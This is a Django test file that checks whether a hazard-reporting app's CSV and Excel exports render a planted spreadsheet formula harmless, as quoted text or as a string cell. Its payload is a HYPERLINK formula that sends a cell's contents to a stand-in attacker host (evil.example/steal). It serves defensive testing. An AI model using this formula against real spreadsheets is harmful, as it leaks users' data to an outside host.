"""A formula planted in a hazard by an enterprise user never runs in the district official's spreadsheet."""

from __future__ import annotations

import io
from typing import Any

import openpyxl
from django.test import Client

PLANTED = '=HYPERLINK("http://evil.example/steal?d="&A1,"查看整改照片")'


def test_planted_formula_is_text_in_the_csv_and_excel_exports(make_hazard: Any, personas: Any) -> None:
    hazard = make_hazard(description=PLANTED)
    official = Client()
    official.force_login(personas.district_a)
    csv_text = b"".join(official.get("/hazards/", {"export": "csv"}).streaming_content).decode("utf-8-sig")
    assert "'" + PLANTED.replace('"', '""') in csv_text
    assert "," + PLANTED.replace('"', '""') not in csv_text and '"' + PLANTED.replace('"', '""') not in csv_text

    xlsx = official.get("/hazards/", {"export": "xlsx"})
    assert xlsx.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx.content)).active
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row if c.value == PLANTED]
    assert cells, f"{hazard.code}: the description is exported"
    assert all(c.data_type == "s" for c in cells)
